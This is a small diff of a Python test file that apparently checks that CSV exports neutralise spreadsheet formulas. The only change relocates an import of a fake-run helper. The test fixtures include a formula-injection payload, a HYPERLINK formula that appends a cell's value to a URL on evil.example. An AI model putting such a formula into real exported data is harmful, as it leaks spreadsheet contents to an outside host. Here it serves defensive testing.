@@ -8,7 +8,6 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
-from fake_runs import make_run
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -21,6 +20,7 @@ from finegates.files.spreadsheet import FORMULA_STARTS, csv_text, harmless, no_f
 from finegates.results.point import Point
 from finegates.results.tables import as_csv
 from finegates.runs.notes import write_notes
+from tests.app.fake_runs import make_run
 
 ROOT = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
